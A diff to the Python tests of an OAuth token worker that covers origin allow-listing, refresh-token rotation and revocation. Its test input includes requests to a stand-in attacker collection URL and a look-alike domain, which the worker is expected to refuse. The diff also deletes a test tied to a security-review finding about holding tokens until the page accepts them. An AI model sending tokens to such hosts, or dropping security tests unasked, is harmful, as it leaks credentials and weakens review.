@@ -72,7 +72,6 @@ def test_api_calls_carry_the_token_to_allowed_origins_only() -> None:
     call = {"type": "fetch", "method": "GET", "headers": {"Accept": "application/json"}, "body": None}
     messages = [
         EXCHANGE,
-        {"type": "accept"},
         {**call, "url": API + "/me"},
         {**call, "url": "https://attacker.example/collect"},
         {**call, "url": "https://api.example.com.attacker.example/me"},
@@ -83,27 +82,26 @@ def test_api_calls_carry_the_token_to_allowed_origins_only() -> None:
     assert [r["url"] for r in sent] == [ISSUER + "/token", API + "/me"]
     assert sent[1]["init"]["headers"]["Authorization"] == "Bearer at-secret-1"
     assert sent[1]["init"]["redirect"] == "error" and sent[1]["init"]["credentials"] == "omit"
-    assert posted[2]["status"] == 200 and json.loads(posted[2]["body"]) == {"sub": "alice"}
-    refusals = [a.get("refused") for a in posted[3:]]
+    assert posted[1]["status"] == 200 and json.loads(posted[1]["body"]) == {"sub": "alice"}
+    refusals = [a.get("refused") for a in posted[2:]]
     assert refusals == ["origin_not_allowed", "origin_not_allowed", "bad_header", "origin_not_allowed"]
 
 
 def test_refresh_rotates_and_revocation_sends_each_token_with_its_hint() -> None:
     """RFC 9700 §4.14.2, RFC 7009 §2.1: the stored refresh token, then the rotated one's revocation."""
     rotated = {**TOKENS, "access_token": "at-secret-2", "refresh_token": "rt-secret-2"}
-    accept = {"type": "accept"}
-    messages = [EXCHANGE, accept, {"type": "refresh"}, accept, {"type": "revoke", "hint": "refresh_token"}]
-    messages += [{"type": "forget"}, {"type": "revoke", "hint": "access_token"}]
+    messages = [EXCHANGE, {"type": "refresh"}, {"type": "revoke", "hint": "refresh_token"}, {"type": "forget"}]
+    messages.append({"type": "revoke", "hint": "access_token"})
     sent, posted = run(messages, [ok(TOKENS), ok(rotated), ok({})])
     assert parse_qs(sent[1]["init"]["body"])["refresh_token"] == ["rt-secret-1"]
-    assert posted[2]["at_hash"] == compute_at_hash("at-secret-2", "RS256")
+    assert posted[1]["at_hash"] == compute_at_hash("at-secret-2", "RS256")
     assert sent[2]["url"] == ISSUER + "/revoke"
     assert parse_qs(sent[2]["init"]["body"]) == {
         "token": ["rt-secret-2"],
         "token_type_hint": ["refresh_token"],
         "client_id": [CLIENT_ID],
     }
-    assert posted[5] == {"id": 6, "forgotten": True} and posted[6]["refused"] == "not_signed_in"
+    assert posted[3] == {"id": 4, "forgotten": True} and posted[4]["refused"] == "not_signed_in"
     assert "secret" not in json.dumps(posted)
 
 
@@ -119,26 +117,3 @@ def test_settings_that_are_not_origins_stop_the_worker() -> None:
     for settings in (SETTINGS + [("origin", API + "/me")], [("token_endpoint", "http://idp.example.com/token")]):
         sent, posted = run([EXCHANGE], [ok(TOKENS)], settings)
         assert sent == [] and posted[0]["refused"] == "bad_settings"
-
-
-def test_an_answer_is_used_only_once_the_page_accepts_it() -> None:
-    """docs/SECURITY.md C12 (an attacker's review): the worker holds a token answer back until the page has
-    checked it: before "accept" no API call carries it; a "reject"ed answer is dropped, and the tokens in use
-    before it stay in use; "accept" with nothing held back is refused."""
-    call: dict[str, Any] = {"type": "fetch", "method": "GET", "url": API + "/me", "headers": {}, "body": None}
-    second = {**TOKENS, "access_token": "at-refused", "refresh_token": "rt-refused"}
-    messages = [
-        EXCHANGE,
-        call,  # not accepted yet: no token to send
-        {"type": "accept"},
-        call,  # the accepted tokens
-        EXCHANGE,  # a second sign-in, whose answer the page refuses
-        {"type": "reject"},
-        call,  # still the first tokens
-        {"type": "accept"},  # nothing held back any more
-    ]
-    sent, posted = run(messages, [ok(TOKENS), ok({"n": 1}), ok(second), ok({"n": 2})])
-    assert posted[1]["refused"] == "not_signed_in"
-    api_calls = [r["init"]["headers"]["Authorization"] for r in sent if r["url"] == API + "/me"]
-    assert api_calls == ["Bearer at-secret-1", "Bearer at-secret-1"]
-    assert posted[5] == {"id": 6, "rejected": True} and posted[7]["refused"] == "nothing_pending"
